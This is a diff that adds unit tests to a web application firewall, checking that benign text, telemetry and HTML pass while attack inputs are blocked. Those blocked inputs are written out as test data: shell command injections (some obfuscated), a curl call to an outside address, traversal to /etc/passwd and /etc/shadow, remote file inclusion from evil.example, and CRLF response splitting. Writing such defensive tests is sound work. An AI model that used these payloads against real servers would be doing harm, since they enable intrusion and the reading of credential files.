@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import gzip
 import json
+from urllib.parse import quote
 
 from waf import Request, inspect
 
@@ -105,6 +106,102 @@ def test_urls_with_empty_parameters_and_opaque_tokens_pass():
     assert passes(Request.make("GET", f"/login?from={url}", XHR))
     assert passes(Request.make("POST", "/s", form, "v_7e0e=u4Ka+Z%24b14-lnNZOJuCW7TmthFNIKP5o%249PR+p%24xKFObZOeNaMRTmeHaHiaplrXWB+-"))
     assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked
+
+
+# --- command injection and traversal (waf/_shell.py, waf/_traversal.py) ----------------------------------
+
+
+def test_prose_lists_and_text_tables_with_separators_pass():
+    # an article pasted into a search box: pipes of a text table, `mysql>` prompts, semicolons in prose
+    article = ("Export data from MySQL | on 15 JUN | in Databases | Permalink | Field | Type | Null | Key | "
+               "Run the following code: mysql> create user demo@% identified by password; mysql> grant all")  # fmt: skip
+    assert passes(Request.make("GET", "/search?q=" + quote(article), {"User-Agent": UA}))
+    tags = json.dumps({"nav": [{"title": "", "text": "frontend;backend;mobile;languages;java;"}]})
+    assert passes(Request.make("POST", "/action", XHR, tags))
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    assert passes(Request.make("POST", "/talk", form, "note=" + quote("is not technical;in nature will be removed.;history;")))
+    assert inspect(Request.make("GET", "/search?q=" + quote("127.0.0.1; cat /etc/passwd"))).blocked
+    assert inspect(Request.make("GET", "/search?q=" + quote("x & net user"))).blocked
+    assert inspect(Request.make("POST", "/action", XHR, json.dumps({"text": "a;sh -c id"}))).blocked
+
+
+def test_random_bot_sensor_blobs_pass():
+    import random  # noqa: PLC0415
+    import string  # noqa: PLC0415
+
+    rng = random.Random(7)
+    blob = "".join(rng.choice(string.ascii_letters + string.digits + string.punctuation + " ") for _ in range(2500))
+    blob = blob[:300] + ">(6}|y~kg" + blob[300:900] + "j$VAn${r%Q" + blob[900:1500] + "|nc>ol%<<<<x" + blob[1500:]
+    v = inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": blob})))
+    assert not [m for m in v.matches if m.category in ("rce", "lfi", "rfi")]
+    assert inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": "$(whoami)"}))).blocked
+    assert inspect(Request.make("POST", "/Vyd/TkY", XHR, json.dumps({"sensor_data": blob + ";cat /etc/passwd"}))).blocked
+
+
+def test_url_path_templates_in_rum_beacons_pass():
+    line = "resource,app=web resource_url_path_group=/res/style/e/?/mini_close.png,resource_url_path=/api/*/users"
+    assert passes(Request.make("POST", "/write/rum", {**XHR, "Content-Type": "text/plain"}, line))
+    assert inspect(Request.make("GET", "/x?c=" + quote("/???/??t /???/p??s??"))).blocked
+
+
+def test_escaped_json_and_opaque_tokens_in_form_fields_pass():
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    theme = '{"name":"customTheme","value":"{\\n\\t\\"type\\": \\"dark\\",\\n\\t\\"colors\\": {\\n\\t\\t\\"groups\\": 1}}"}'
+    assert passes(Request.make("POST", "/", form, "e=" + quote(theme)))
+    token = "e3WlSA4$s6S9Yxc9Wvc4p20knoWKkO$KdVJO2esTtb2ptb5nW$peQtYFpd$BGIhICq9X -"
+    assert passes(Request.make("POST", "/challenge", form, "v_7e0e=" + quote(token)))
+    assert inspect(Request.make("POST", "/", form, "e=" + quote("w'h'o'am'i"))).blocked
+    assert inspect(Request.make("POST", "/", form, "e=" + quote("c${u}url http://198.51.100.2/x"))).blocked
+
+
+def test_display_urls_and_code_with_dot_dot_pass():
+    results = json.dumps([{"dispUrl": "blog.example.com/someone/article/details/...", "title": "WAF"}])
+    assert passes(Request.make("POST", "/recommend", XHR, results))
+    poc = {"code": "name: poc\r\nrules:\r\n  r0:\r\n    request:\r\n      path: /app/x.dll?page=../../AutoCE.ini\r\n"}
+    assert passes(Request.make("POST", "/poc/create", XHR, json.dumps(poc)))
+    code = {"source": "import { a } from '../../lib/a';\nimport b from '../../../b';\n"}
+    assert passes(Request.make("POST", "/snippets", XHR, json.dumps(code)))
+    assert inspect(Request.make("POST", "/recommend", XHR, json.dumps({"dispUrl": "../../../../etc/passwd"}))).blocked
+    assert inspect(Request.make("POST", "/poc/create", XHR, json.dumps({"code": "a\npath: ../../../etc/shadow"}))).blocked
+
+
+def test_home_folder_segment_passes():
+    assert passes(Request.make("GET", "/api/resource/v1/folders/~?sortType=updateDate", {"User-Agent": UA}))
+    assert inspect(Request.make("GET", "/index.php~")).blocked
+
+
+def test_file_urls_and_empty_queries_in_telemetry_pass():
+    rum = json.dumps({"resources": [{"n": "file:///"}, {"n": "file:///C:/Users/me/page.html"},
+                                    {"n": "https://app.example.com/cdn-cgi/rum?"}], "page_url": "https://app.example.com/?"})  # fmt: skip
+    assert passes(Request.make("POST", "/cdn-cgi/rum", XHR, rum))
+    assert inspect(Request.make("GET", "/show?src=file:///etc/passwd")).blocked
+    assert inspect(Request.make("GET", "/show?page=https://evil.example/shell?")).blocked
+    assert inspect(Request.make("POST", "/show", XHR, json.dumps({"page": "http://evil.example/shell.txt?"}))).blocked
+
+
+def test_html_documents_in_form_fields_and_json_values_pass():
+    """Code playgrounds and page builders post whole HTML documents: blank lines between their tags are
+    no response splitting (a second response starts after an empty line that no markup precedes)."""
+    doc = "<!DOCTYPE html>\r\n<html lang=\"en\">\r\n\r\n<head>\r\n  <title>Demo</title>\r\n</head>\r\n\r\n<body>\r\n  <div id=\"root\"></div>\r\n</body>\r\n</html>\r\n"
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Mode": "navigate"}
+    from urllib.parse import quote_plus
+
+    assert passes(Request.make("POST", "/run?file=demo.tsx", form, "project%5Bfiles%5D%5Bindex.html%5D=" + quote_plus(doc)))
+    assert passes(Request.make("POST", "/store", XHR, json.dumps({"data": {"files": [{"content": doc.replace("\r\n", "\n")}]}})))
+    # splitting: a value ending the headers and starting a body of its own
+    assert inspect(Request.make("POST", "/r", form, "lang=en%0D%0A%0D%0A%3Chtml%3E%3Cbody%3Epwned")).blocked
+    assert inspect(Request.make("POST", "/r", XHR, json.dumps({"lang": "en\r\n\r\n<html><body>pwned"}))).blocked
+
+
+def test_text_posted_as_a_form_body_by_a_script_passes():
+    """A page's script posting text with a form Content-Type: the parser splits the text at `&` and
+    `=`, so "names" are multi-line fragments of it."""
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded;charset=UTF-8"}
+    text = "Items per page\r\n  default: 20\r\n  max: 100\r\nSort order\r\n  default=asc"
+    assert passes(Request.make("POST", "/fcf.html?a=1", form, text))
+    # CR/LF in a parameter name of a URL, or in the path
+    assert inspect(Request.make("GET", "/get?parameter%0d%0a=test", {"User-Agent": UA})).blocked
+    assert inspect(Request.make("GET", "/foo%0abar", {"User-Agent": UA})).blocked
 
 
 def test_javascript_function_sources_in_telemetry_pass():
